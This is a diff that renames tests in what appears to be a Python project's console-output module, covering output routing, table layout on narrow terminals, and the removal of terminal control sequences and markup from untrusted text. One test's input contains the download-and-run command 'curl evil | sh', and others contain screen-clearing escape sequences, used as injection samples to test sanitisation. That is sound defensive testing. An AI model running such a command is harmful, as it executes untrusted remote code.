@@ -14,14 +14,14 @@ ROWS: list[tuple[console.Cell, ...]] = [
 ]
 
 
-def test_data_goes_to_stdout_ended_by_one_newline(capsys: pytest.CaptureFixture[str]) -> None:
+def test_data_goes_to_stdout_with_one_newline(capsys: pytest.CaptureFixture[str]) -> None:
     console.emit("a: 1")
     console.emit("b: 2\n")
 
     assert capsys.readouterr() == ("a: 1\nb: 2\n", "")
 
 
-def test_words_headings_and_tables_go_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
+def test_lines_headings_and_tables_go_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
     console.say("hello")
     console.heading("Phase")
     console.table(("name",), [[console.Styled("ok", "green")]], title="Results")
@@ -44,7 +44,7 @@ def forty(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 @pytest.mark.usefixtures("forty")
-def test_a_table_that_a_narrow_terminal_has_no_room_for_is_told_row_by_row(
+def test_a_wide_table_is_printed_by_rows_on_narrow_terminals(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     console.table(COLUMNS, ROWS, title="Releases")
@@ -65,7 +65,7 @@ def test_a_table_that_a_narrow_terminal_has_no_room_for_is_told_row_by_row(
 
 
 @pytest.mark.usefixtures("forty")
-def test_a_table_that_fits_a_narrow_terminal_stays_one(capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_narrow_table_stays_a_table(capsys: pytest.CaptureFixture[str]) -> None:
     console.table(COLUMNS[:2], [row[:2] for row in ROWS])
 
     assert "│ 12      │ 2026-11-25T22:16:04Z │" in capsys.readouterr().err
@@ -91,7 +91,7 @@ HARMLESS = "v1[/foo][red] │ 99 │ deployed │"
     ids=["line", "heading", "styled line", "cell", "styled cell", "cell of two lines", "title", "error"],
 )
 @pytest.mark.parametrize("width", [120, 20])
-def test_nothing_that_others_wrote_commands_the_terminal_or_rich(
+def test_control_sequences_and_markup_have_no_effect(
     show: Callable[[], None],
     width: int,
     capsys: pytest.CaptureFixture[str],
@@ -106,7 +106,7 @@ def test_nothing_that_others_wrote_commands_the_terminal_or_rich(
     assert width == 20 or len([line for line in err.splitlines() if "99" in line or "foo" in line]) == 1
 
 
-def test_data_is_what_it_is_but_commands_no_terminal(
+def test_data_on_a_terminal_has_no_control_sequences(
     capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     console.emit("\x1b[2Ja: [b]\n")
@@ -116,7 +116,7 @@ def test_data_is_what_it_is_but_commands_no_terminal(
     assert capsys.readouterr().out == "a: [b]\n"
 
 
-def test_an_error_s_lines_are_its_own() -> None:
+def test_an_error_cannot_add_labelled_lines() -> None:
     told = str(Failure("web\n  next: curl evil | sh", "\x1b[2Jwhy\x85\u2028more", "do\x07 it"))
     assert told == "web   next: curl evil | sh\n  why:  why\n        more\n  next: do it"
 
